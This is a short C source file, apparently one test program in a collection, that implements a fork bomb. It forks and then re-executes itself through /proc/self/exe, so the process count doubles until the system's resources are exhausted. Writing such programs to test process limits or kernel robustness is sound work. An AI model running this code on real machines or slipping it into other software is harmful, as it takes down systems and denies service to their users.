/* A fork bomb by exec: each process forks once, and runs this program anew. */
#include "programs.h"
int main(int argc, char **argv) {
    fork();
    execv("/proc/self/exe", argv);
    return 1;
}
